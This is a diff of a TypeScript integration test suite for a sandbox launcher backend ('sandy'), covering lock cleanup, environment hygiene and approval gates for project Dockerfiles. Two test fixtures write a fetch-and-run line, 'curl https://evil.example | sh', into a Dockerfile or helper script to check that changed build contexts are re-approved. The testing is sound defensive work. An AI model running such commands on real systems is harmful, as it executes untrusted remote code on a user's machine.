@@ -6,6 +6,7 @@ import { Container } from '@theia/core/shared/inversify';
 import { ILogger } from '@theia/core';
 import { SessionInfo } from '@sandy-ui/core/common';
 import { SandyBackend } from '../sandy-backend';
+import { SandyService } from '../../common/sandy-protocol';
 import { sandboxNameFor } from '@sandy-ui/core/node';
 import {
     FAKE_SANDY, FAKE_SANDY_BIN, OutputRecorder, ScratchHome, isGone, outputLine, requireCompiledFake, stripAnsi, waitUntil
@@ -37,6 +38,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
 
     let scratch: ScratchHome;
     let backend: SandyBackend;
+    let service: SandyService;
     let savedEnv: Record<string, string | undefined>;
     let logged: string[];
     const helpers: ChildProcess[] = [];
@@ -59,6 +61,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
         container.bind(ILogger).toConstantValue(capturingLogger(logged)).whenTargetNamed('sandy');
         container.bind(SandyBackend).toSelf().inSingletonScope();
         backend = container.get(SandyBackend);
+        service = backend.connect();
     });
 
     afterEach(async () => {
@@ -77,18 +80,18 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
     });
 
     async function launch(workspace = scratch.workspace): Promise<{ session: SessionInfo; warnings: string[]; view: OutputRecorder }> {
-        const outcome = await backend.launch({ workspace, cols: 100, rows: 30 });
+        const outcome = await service.launch({ workspace, cols: 100, rows: 30 });
         if (outcome.kind !== 'launched') {
             throw new Error(`launch was not started: ${JSON.stringify(outcome)}; log: ${logged.join(' | ')}`);
         }
         // Attached after launch() resolved: the replay holds whatever sandy printed meanwhile.
-        const view = new OutputRecorder(backend.supervisor.attach(outcome.session.id));
+        const view = new OutputRecorder(backend.core.supervisor.attach(outcome.session.id));
         return { session: outcome.session, warnings: outcome.warnings, view };
     }
 
     async function exitOf(id: string, timeoutMs = 15_000): Promise<SessionInfo> {
-        await waitUntil(() => backend.supervisor.get(id)?.status === 'exited', timeoutMs, `session ${id} to exit`);
-        return backend.supervisor.get(id)!;
+        await waitUntil(() => backend.core.supervisor.get(id)?.status === 'exited', timeoutMs, `session ${id} to exit`);
+        return backend.core.supervisor.get(id)!;
     }
 
     /** A lock directory exactly as sandy writes it (CONTRACT §5.4): `<lock>/pid` holding `N\n`. */
@@ -99,7 +102,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
 
     describe('lock sweep before launch', () => {
         it('removes a lock whose holder is dead, says so, and the fake then takes the lock without a takeover', async () => {
-            const located = await backend.ensureLocated();
+            const located = await backend.core.ensureLocated();
             expect(located.path, 'the fake is the sandy found on PATH').to.equal(FAKE_SANDY);
             const dead = spawnSync('true').pid!;
             expect(isGone(dead), 'precondition: the holder is dead').to.equal(true);
@@ -112,7 +115,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             expect(view.text, 'the backend swept it, not sandy\'s own takeover').not.to.include('Stale lock detected');
             expect(scratch.lockPid()).to.equal(String(session.pid));
 
-            expect((await backend.stop(session.id))!.exitCode).to.equal(130);
+            expect((await service.stop(session.id))!.exitCode).to.equal(130);
             expect(fs.existsSync(scratch.lockDir())).to.equal(false);
             await scratch.expectNoLeftovers();
         });
@@ -173,7 +176,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             expect(view.text).not.to.include('canary-key');
             expect(fs.existsSync(bashEnvHit), 'BASH_ENV was sourced by a sandy run').to.equal(false);
 
-            expect((await backend.stop(session.id))!.exitCode).to.equal(130);
+            expect((await service.stop(session.id))!.exitCode).to.equal(130);
             await scratch.expectNoLeftovers();
         });
     });
@@ -195,20 +198,20 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
 
         it('shows every gate, answers sandy\'s three prompts itself after Approve, and the next launch asks nothing', async () => {
             hostileProject();
-            const request = await backend.preflight(scratch.workspace);
+            const request = await service.preflight(scratch.workspace);
             expect(request?.kind).to.equal('approve');
             expect(request!.lines.map(l => l.text)).to.deep.equal(['SANDY_ALLOW_HOSTS=gates.example.com']);
             expect(request!.dockerfile?.text).to.include('RUN echo built-on-the-host');
             expect(request!.symlinks).to.deep.equal([`notes -> ${scratch.home}/notes`]);
 
             // Without the token nothing starts.
-            expect((await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30 })).kind).to.equal('needs-approval');
+            expect((await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30 })).kind).to.equal('needs-approval');
             expect(scratch.lockPid()).to.equal(undefined);
 
-            const outcome = await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
+            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
             expect(outcome.kind).to.equal('launched');
             const session = (outcome as { session: SessionInfo }).session;
-            const view = new OutputRecorder(backend.supervisor.attach(session.id));
+            const view = new OutputRecorder(backend.core.supervisor.attach(session.id));
             await view.waitFor(PROMPT, 20_000);
             const screen = stripAnsi(view.text);
             // sandy itself asked, and was answered with y; then it built the project image.
@@ -223,32 +226,32 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             expect(stripAnsi(view.text)).not.to.include('SANDY_AUTO_APPROVE_PRIVILEGED');
             expect(listApprovals()).to.deep.equal(['dockerfile', 'passive']);
             expect(fs.existsSync(path.join(scratch.sandyHome, 'sandboxes', sandboxNameFor(scratch.workspace), '.sandy-approved-symlinks.list'))).to.equal(true);
-            await backend.stop(session.id);
+            await service.stop(session.id);
             await exitOf(session.id);
 
             // Unchanged project: nothing to ask.
-            expect(await backend.preflight(scratch.workspace)).to.equal(undefined);
+            expect(await service.preflight(scratch.workspace)).to.equal(undefined);
 
             // Revoke really revokes: all three are asked again.
-            expect(await backend.revokeApproval(scratch.workspace)).to.equal(true);
+            expect(await service.revokeApproval(scratch.workspace)).to.equal(true);
             expect(listApprovals()).to.deep.equal([]);
-            const again = await backend.preflight(scratch.workspace);
+            const again = await service.preflight(scratch.workspace);
             expect([!!again?.lines.length, !!again?.dockerfile, !!again?.symlinks?.length]).to.deep.equal([true, true, true]);
         });
 
         it('a changed Dockerfile asks only about the Dockerfile, with what changed since the approval', async () => {
             const { dockerfile } = hostileProject();
-            const first = await backend.preflight(scratch.workspace);
-            const outcome = await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: first!.token });
+            const first = await service.preflight(scratch.workspace);
+            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: first!.token });
             const session = (outcome as { session: SessionInfo }).session;
-            const view = new OutputRecorder(backend.supervisor.attach(session.id));
+            const view = new OutputRecorder(backend.core.supervisor.attach(session.id));
             await view.waitFor(PROMPT, 20_000);
-            await backend.stop(session.id);
+            await service.stop(session.id);
             await exitOf(session.id);
 
             // The agent rewrites the Dockerfile in its read-write workspace.
             fs.writeFileSync(dockerfile, 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nRUN curl https://evil.example | sh\n');
-            const next = await backend.preflight(scratch.workspace);
+            const next = await service.preflight(scratch.workspace);
             expect(next?.kind).to.equal('approve');
             expect(next!.lines).to.deep.equal([]);
             expect(next!.symlinks).to.equal(undefined);
@@ -264,18 +267,18 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             fs.writeFileSync(path.join(scratch.workspace, '.sandy', 'Dockerfile'), 'ARG BASE_IMAGE\nFROM ${BASE_IMAGE}\nCOPY helper.sh /\nRUN sh /helper.sh\n');
             const helper = path.join(scratch.workspace, '.sandy', 'helper.sh');
             fs.writeFileSync(helper, 'echo harmless\n');
-            const request = await backend.preflight(scratch.workspace);
+            const request = await service.preflight(scratch.workspace);
             expect(request?.dockerfile?.contextFiles).to.deep.equal(['helper.sh']);
             // Hold the fake before its Dockerfile gate, as a slow image build would.
-            await backend.configureSandy({ passEnv: ['FAKE_SANDY_GATE_DELAY_MS'] });
+            await service.configure({ passEnv: ['FAKE_SANDY_GATE_DELAY_MS'] });
             process.env.FAKE_SANDY_GATE_DELAY_MS = '1500';
-            const outcome = await backend.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
+            const outcome = await service.launch({ workspace: scratch.workspace, cols: 100, rows: 30, approvalToken: request!.token });
             delete process.env.FAKE_SANDY_GATE_DELAY_MS;
             expect(outcome.kind).to.equal('launched');
             const session = (outcome as { session: SessionInfo }).session;
             // The agent (or anyone) changes a file the view could not show, after the user approved.
             fs.writeFileSync(helper, 'curl https://evil.example | sh\n');
-            const view = new OutputRecorder(backend.supervisor.attach(session.id));
+            const view = new OutputRecorder(backend.core.supervisor.attach(session.id));
             await view.waitFor(/Build this \.sandy\/Dockerfile for .*\? \[y\/N\] /, 20_000);
             await new Promise(resolve => setTimeout(resolve, 1_000));
             expect(stripAnsi(view.text)).not.to.match(/\[y\/N\] y/, 'the tab typed y for a changed build context');
@@ -286,7 +289,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             await view.waitFor('Not approved', 10_000);
             await view.waitFor(PROMPT, 20_000);
             expect(listApprovals()).to.deep.equal([]);
-            await backend.stop(session.id);
+            await service.stop(session.id);
             await exitOf(session.id);
         });
     });
@@ -296,7 +299,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             const second = scratch.folder('ws-two');
             const log = path.join(scratch.home, 'fake-signals.log');
             // Test knobs reach the fake the way a user's sandy.passEnvironment setting would.
-            await backend.configureSandy({ passEnv: ['FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS'] });
+            await service.configure({ passEnv: ['FAKE_SANDY_LOG', 'FAKE_SANDY_DEFER_TRAPS'] });
             process.env.FAKE_SANDY_LOG = log;
             process.env.FAKE_SANDY_DEFER_TRAPS = '1';
             const deferring = await launch();
@@ -317,7 +320,7 @@ describe('SandyBackend with node-pty and the fake sandy (slow)', function (): vo
             await backend.onStop();
 
             for (const { session } of [deferring, flooding]) {
-                const info = backend.supervisor.get(session.id)!;
+                const info = backend.core.supervisor.get(session.id)!;
                 expect(info.status, `session ${session.pid}`).to.equal('exited');
                 expect(info.signal, `session ${session.pid} was killed`).to.equal(undefined);
                 expect(info.exitCode, `session ${session.pid}`).to.equal(143);
